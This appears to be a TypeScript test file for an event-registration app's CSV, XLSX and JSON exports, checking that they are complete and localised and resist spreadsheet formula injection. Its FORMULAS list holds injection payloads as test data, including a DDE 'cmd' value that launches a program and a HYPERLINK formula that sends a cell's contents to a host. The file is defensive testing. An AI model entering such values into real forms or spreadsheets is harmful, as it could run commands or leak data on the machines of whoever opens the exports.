import { parse } from 'csv-parse/sync';
import readExcelFile from 'read-excel-file/node';
import { UnitOfWork } from '../../../src/platform/database/unit-of-work.js';
import type { RegistrationRecord } from '../../../src/registrations/domain/registration.js';
import { startTestApp, type TestApp } from '../../support/app.js';
import { givenEvent } from '../../support/builders/events.js';
import { givenRegistrations } from '../../support/builders/registrations.js';
import { givenOrganiser, loggedIn } from '../../support/organisers.js';
import type { Visitor } from '../../support/visitor.js';

const HEADINGS = [
  ...[
    'Référence',
    'Statut',
    'Nom',
    'Prénom',
    'Adresse électronique',
    'Téléphone',
    'Fonction',
    'Collectivité',
    'Commune ou EPCI',
  ],
  ...[
    'Nature',
    'Code (INSEE, SIREN)',
    'Département',
    'EPCI',
    'Collectif de territoire',
    'Remarques',
    'Code action',
    'Origine',
    'Groupe inscrit par',
    'Inscrit le',
    'Modifié le',
    'Annulé le',
    'Fin',
    'Motif de fin',
  ],
];

/** What somebody may type in each field to have it run in a spreadsheet. */
const FORMULAS = [
  '=HYPERLINK("http://example.org?x="&A1,"Cliquez")',
  '+33 6 12 34 56 78',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=1+1";=2+2',
  'deux\nlignes ; "guillemets"',
];

describe('the exports', () => {
  let tablee: TestApp;
  let visitor: Visitor;
  let records: RegistrationRecord[];

  beforeAll(async () => {
    tablee = await startTestApp();
    const unitOfWork = tablee.app.get(UnitOfWork, { strict: false });
    const eventId = await givenEvent({ unitOfWork }, { slug: 'seminaire' });
    records = await givenRegistrations({ unitOfWork }, eventId, [
      {
        lastName: 'Cesbron',
        createdAt: Date.parse('2019-10-22T08:12:00Z'),
        collectivity: { ...aCommune, code: '01004', departmentCode: '01' },
      },
      ...FORMULAS.map((formula, n) => ({
        lastName: formula,
        firstName: formula,
        remarks: formula,
        collective: formula,
        createdAt: Date.parse('2019-10-23T08:00:00Z') + n,
      })),
      {
        status: 'withdrawn',
        createdAt: Date.parse('2019-12-01T08:00:00Z'),
        withdrawnAt: Date.parse('2019-12-02T23:30:00Z'),
      },
    ]);
    await givenOrganiser(tablee, { roles: { [eventId]: 'responsable' } });
    visitor = await loggedIn(tablee);
  });
  afterAll(() => tablee.close());

  const aCommune = {
    type: 'commune',
    kind: 'commune',
    code: '49301',
    name: 'Sèvremoine',
    departmentCode: '49',
    epciCode: '200060010',
    epciName: 'CA Mauges Communauté',
  } as const;

  async function csv(): Promise<string[][]> {
    const { status, headers, body } = await visitor.bytes('/organiser/evenements/seminaire/inscriptions.csv');
    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="inscriptions-seminaire-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    return parse(body, { bom: true, delimiter: ';', record_delimiter: '\r\n' });
  }

  async function xlsx(): Promise<unknown[][]> {
    const { status, headers, body } = await visitor.bytes('/organiser/evenements/seminaire/inscriptions.xlsx');
    expect([status, headers.get('content-type')]).toEqual([
      200,
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ]);
    const [sheet] = await readExcelFile(body);
    return sheet!.data;
  }

  it('are whole and exact: one line a registration, the oldest first', async () => {
    const rows = await csv();
    expect(rows[0]).toEqual(HEADINGS);
    expect(rows).toHaveLength(records.length + 1);
    expect(rows[1]).toEqual([
      ...[
        records[0]!.reference,
        'Confirmée',
        'Cesbron',
        'Maëlle',
        'person.0@example.org',
        '',
        'Secrétaire de mairie',
        'Sèvremoine',
      ],
      ...['Commune', 'Commune', '01004', '01', 'CA Mauges Communauté', '', ''],
      ...['', 'Inscrit par soi-même', '', '2019-10-22 10:12', '2019-10-22 10:00', '', '', ''],
    ]);
    expect(rows.at(-1)).toEqual(expect.arrayContaining(['Annulée', '2019-12-01 09:00', '2019-12-03 00:30']));
  });

  it('as CSV never give a spreadsheet a cell to run', async () => {
    const cells = (await csv()).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(FORMULAS.slice(0, 8).map((formula) => `'${formula}`)));
    expect(cells).toContain(FORMULAS[8]);
  });

  it('as a workbook hold texts only: what was typed, and not one formula', async () => {
    const rows = await xlsx();
    expect(rows[0]).toEqual(HEADINGS);
    expect(rows).toHaveLength(records.length + 1);
    expect(rows[1]!.slice(10, 12)).toEqual(['01004', '01']);
    // A workbook's XML has no carriage return of its own (XML 1.0, 2.11), and readers trim.
    expect(rows.slice(2, 11).map((row) => String(row[2]).trim())).toEqual(FORMULAS.map((formula) => formula.trim()));
    const { body } = await visitor.bytes('/organiser/evenements/seminaire/inscriptions.xlsx');
    expect(await sheetXml(body)).not.toMatch(/<f[ >]/);
  });

  it('as JSON are described by themselves, and follow the filter and the columns of the list', async () => {
    const { status, headers, html } = await visitor.get(
      '/organiser/evenements/seminaire/inscriptions.json?statut=withdrawn&colonnes=status',
    );
    expect([status, headers.get('content-type')]).toEqual([200, 'application/json; charset=utf-8']);
    expect(JSON.parse(html)).toEqual({
      event: 'seminaire',
      exportedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      filter: '?statut=withdrawn',
      columns: [
        { key: 'reference', heading: 'Référence' },
        { key: 'last-name', heading: 'Nom' },
        { key: 'first-name', heading: 'Prénom' },
        { key: 'status', heading: 'Statut' },
      ],
      registrations: [
        {
          reference: records.at(-1)!.reference,
          'last-name': 'Cesbron',
          'first-name': 'Maëlle',
          status: 'Annulée',
        },
      ],
    });
  });

  it('hold no token and no link', async () => {
    const all = JSON.stringify([await csv(), await xlsx()]);
    expect(all).not.toMatch(/\/inscriptions\/|[\w-]{32}/);
  });

  it("speak the organiser's language", async () => {
    visitor.cookies.set('langue', 'en');
    const [headings, first] = await csv();
    visitor.cookies.delete('langue');
    expect(headings!.slice(0, 3)).toEqual(['Reference', 'Status', 'Last name']);
    expect(first![1]).toBe('Confirmed');
  });
});

/** The sheet's own XML, taken out of the ZIP by its central directory. */
async function sheetXml(workbook: Buffer): Promise<string> {
  const { inflateRawSync } = await import('node:zlib');
  const name = 'xl/worksheets/sheet1.xml';
  let at = workbook.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  while (at >= 0) {
    const nameLength = workbook.readUInt16LE(at + 28);
    if (workbook.toString('utf8', at + 46, at + 46 + nameLength) === name) {
      const start = workbook.readUInt32LE(at + 42);
      const body = start + 30 + workbook.readUInt16LE(start + 26) + workbook.readUInt16LE(start + 28);
      const packed = workbook.subarray(body, body + workbook.readUInt32LE(at + 20));
      return (workbook.readUInt16LE(at + 10) === 0 ? packed : inflateRawSync(packed)).toString('utf8');
    }
    at = workbook.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), at + 4);
  }
  throw new Error(`no ${name} in the workbook`);
}
